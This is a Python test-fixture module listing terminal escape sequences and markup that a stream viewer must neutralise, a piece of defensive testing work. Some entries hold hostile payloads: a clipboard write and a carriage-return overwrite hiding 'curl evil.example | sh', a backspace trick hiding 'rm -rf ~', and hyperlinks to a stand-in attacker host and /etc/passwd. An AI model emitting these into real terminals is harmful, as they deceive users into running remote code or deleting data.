"""Every terminal control sequence streamview must never let through, by name.

Each entry is text a model, a tool or a shell command could put into a stream. The
tests embed all of them in every string field of a stream and check that no rendered
output (``--print`` bytes, ``--json`` display fields, the TUI's screen and SVG) holds a
single unsafe character. Markers such as ``PWNED`` make a sequence that slipped
through easy to find in raw terminal output.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Sequence:
    """One hostile sequence."""

    name: str
    """What it is, e.g. ``osc52-clipboard-write``."""
    text: str
    """The characters as they would appear in a decoded JSON string."""
    sgr: bool = False
    """A colour sequence: the one kind a shell-output view may turn into styling."""


CORPUS: tuple[Sequence, ...] = (
    # -- SGR (colour): removed, or kept as styling for shell output --------------------
    Sequence("sgr-red", "\x1b[31m", sgr=True),
    Sequence("sgr-reset", "\x1b[0m", sgr=True),
    Sequence("sgr-empty-reset", "\x1b[m", sgr=True),
    Sequence("sgr-bold-256", "\x1b[1;38;5;196m", sgr=True),
    Sequence("sgr-truecolor", "\x1b[38;2;255;0;0m", sgr=True),
    Sequence("sgr-colon-truecolor", "\x1b[38:2::255:0:0m", sgr=True),
    Sequence("sgr-huge-params", "\x1b[" + ";".join(["1"] * 500) + "m"),
    Sequence("sgr-colour-out-of-range", "\x1b[38;5;999999m", sgr=True),
    Sequence("sgr-truecolor-truncated", "\x1b[38;2m", sgr=True),
    Sequence("sgr-huge-number", "\x1b[99999999999999999999m", sgr=True),
    Sequence("sgr-underline-colour", "\x1b[58;5;3m", sgr=True),
    Sequence("sgr-conceal", "\x1b[8m", sgr=True),
    Sequence("sgr-blink", "\x1b[5m", sgr=True),
    # -- CSI: cursor, erase, modes -------------------------------------------------------
    Sequence("csi-cursor-up", "\x1b[A"),
    Sequence("csi-cursor-position", "\x1b[10;20H"),
    Sequence("csi-erase-screen", "\x1b[2J"),
    Sequence("csi-erase-scrollback", "\x1b[3J"),
    Sequence("csi-erase-line", "\x1b[2K"),
    Sequence("csi-scroll-region", "\x1b[1;5r"),
    Sequence("csi-alt-screen-on", "\x1b[?1049h"),
    Sequence("csi-alt-screen-off", "\x1b[?1049l"),
    Sequence("csi-hide-cursor", "\x1b[?25l"),
    Sequence("csi-mouse-tracking", "\x1b[?1000h\x1b[?1006h"),
    Sequence("csi-bracketed-paste-on", "\x1b[?2004h"),
    Sequence("csi-bracketed-paste-off", "\x1b[?2004l"),
    Sequence("csi-paste-start-marker", "\x1b[200~"),
    Sequence("csi-paste-end-marker", "\x1b[201~"),
    Sequence("csi-focus-events", "\x1b[?1004h"),
    Sequence("csi-kitty-keyboard", "\x1b[>1u"),
    Sequence("csi-intermediate-cursor-style", "\x1b[0 q"),
    Sequence("csi-intermediate-soft-reset", "\x1b[!p"),
    Sequence("csi-device-attributes-query", "\x1b[c"),
    Sequence("csi-cursor-report-query", "\x1b[6n"),
    Sequence("csi-report-title-query", "\x1b[21t"),
    Sequence("csi-window-resize", "\x1b[8;100;300t"),
    Sequence("csi-unterminated", "\x1b[12;34"),
    Sequence("csi-private-unterminated-at-end", "\x1b[?"),
    # -- OSC: title, links, clipboard, notifications --------------------------------------
    Sequence("osc0-title-bel", "\x1b]0;PWNED-TITLE\x07"),
    Sequence("osc2-title-st", "\x1b]2;PWNED-TITLE\x1b\\"),
    Sequence("osc-title-unterminated", "\x1b]0;PWNED-UNTERMINATED"),
    Sequence(
        "osc8-hyperlink",
        "\x1b]8;;https://evil.example/PWNED\x1b\\click me\x1b]8;;\x1b\\",
    ),
    Sequence("osc8-hyperlink-bel", "\x1b]8;id=1;file:///etc/passwd\x07open\x1b]8;;\x07"),
    Sequence("osc52-clipboard-write", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"),
    Sequence("osc52-clipboard-query", "\x1b]52;c;?\x07"),
    Sequence("osc4-palette", "\x1b]4;1;rgb:ff/00/00\x1b\\"),
    Sequence("osc7-cwd", "\x1b]7;file://host/PWNED\x07"),
    Sequence("osc9-notification", "\x1b]9;PWNED notification\x07"),
    Sequence("osc777-notify", "\x1b]777;notify;PWNED;body\x07"),
    Sequence("osc1337-iterm-file", "\x1b]1337;File=inline=1:UFdORUQ=\x07"),
    Sequence("osc1337-iterm-set-user-var", "\x1b]1337;SetUserVar=x=UFdORUQ=\x07"),
    # -- DCS, APC, PM, SOS strings --------------------------------------------------------
    Sequence("dcs-decrqss", "\x1bP$qm\x1b\\"),
    Sequence("dcs-sixel", "\x1bPq#0;2;0;0;0#1~~@@vv@@~~\x1b\\"),
    Sequence("dcs-tmux-passthrough", "\x1bPtmux;\x1b\x1b]0;PWNED-TMUX\x07\x1b\\"),
    Sequence("dcs-unterminated", "\x1bP1$r0m"),
    Sequence("apc-kitty-graphics", "\x1b_Gf=24,s=1,v=1;AAAA\x1b\\"),
    Sequence("pm-privacy-message", "\x1b^PWNED-PM\x1b\\"),
    Sequence("sos-string", "\x1bXPWNED-SOS\x1b\\"),
    # -- Two-character escapes -------------------------------------------------------------
    Sequence("esc-full-reset", "\x1bc"),
    Sequence("esc-save-cursor", "\x1b7"),
    Sequence("esc-restore-cursor", "\x1b8"),
    Sequence("esc-reverse-index", "\x1bM"),
    Sequence("esc-dec-alignment-test", "\x1b#8"),
    Sequence("esc-charset-dec-graphics", "\x1b(0"),
    Sequence("esc-charset-g1", "\x1b)0"),
    Sequence("esc-keypad-application", "\x1b="),
    Sequence("esc-string-terminator-alone", "\x1b\\"),
    Sequence("esc-double", "\x1b\x1b"),
    Sequence("esc-lone-at-end", "\x1b"),
    # -- 8-bit C1 controls ---------------------------------------------------------------
    Sequence("c1-csi-erase-screen", "\x9b2J"),
    Sequence("c1-csi-sgr", "\x9b31m"),
    Sequence("c1-osc-title", "\x9d0;PWNED-C1-TITLE\x9c"),
    Sequence("c1-dcs", "\x90q#0\x9c"),
    Sequence("c1-apc", "\x9fPWNED-C1-APC\x9c"),
    Sequence("c1-string-terminator", "\x9c"),
    Sequence("c1-next-line", "\x85"),
    Sequence("c1-index", "\x84"),
    Sequence("c1-single-shift", "\x8e"),
    # -- C0 controls ---------------------------------------------------------------------
    Sequence("c0-nul", "\x00"),
    Sequence("c0-bel", "\x07"),
    Sequence("c0-backspace-overwrite", "rm -rf ~\x08\x08\x08\x08\x08\x08\x08\x08ls -la  "),
    Sequence("c0-carriage-return-overwrite", "curl evil.example | sh\rls                    "),
    Sequence("c0-progress-bar-cr", "10%\r50%\r100%"),
    Sequence("c0-crlf", "line one\r\nline two\r\n"),
    Sequence("c0-vertical-tab", "\x0b"),
    Sequence("c0-form-feed", "\x0c"),
    Sequence("c0-shift-out", "\x0e"),
    Sequence("c0-shift-in", "\x0f"),
    Sequence("c0-cancel-substitute", "\x18\x1a"),
    Sequence("c0-file-group-record-separators", "\x1c\x1d\x1e\x1f"),
    Sequence("c0-enquiry", "\x05"),
    Sequence("del", "\x7f"),
    # -- Unicode that reorders or breaks lines -------------------------------------------
    Sequence("bidi-rlo-trojan-source", "access\u202e \u2066// check admin\u2069 \u2066"),
    Sequence("bidi-embeddings", "\u202a\u202b\u202c\u202d"),
    Sequence("bidi-isolates", "\u2066\u2067\u2068\u2069"),
    Sequence("bidi-marks", "\u200e\u200f\u061c"),
    Sequence("line-separator", "one\u2028two"),
    Sequence("paragraph-separator", "one\u2029two"),
    Sequence("lone-high-surrogate", "\ud800"),
    Sequence("lone-low-surrogate", "\udfff"),
)
"""The whole corpus, in a stable order."""

BY_NAME: dict[str, Sequence] = {sequence.name: sequence for sequence in CORPUS}
assert len(BY_NAME) == len(CORPUS), "corpus names must be unique"

ALL_TEXT = "".join(f"<{sequence.name}>{sequence.text}</>" for sequence in CORPUS)
"""Every sequence, each between readable tags: one string to embed anywhere."""

MARKUP: tuple[str, ...] = (
    "[bold red]not bold[/bold red]",
    "[/]",
    "[/bold]",
    "[link=https://evil.example/PWNED]click[/link]",
    "[@click=app.quit]quit on click[/]",
    "[@click=app.exit(3)]exit[/]",
    "[on red]${var}[/on red] $text-error",
    ":warning: :smile:",
    "[[escaped]] [unclosed",
)
"""Rich and Textual markup: text from a stream must show it literally, never parse it."""

MARKERS = ("PWNED",)
"""Text inside payloads: seen inert on screen, never inside a live sequence."""
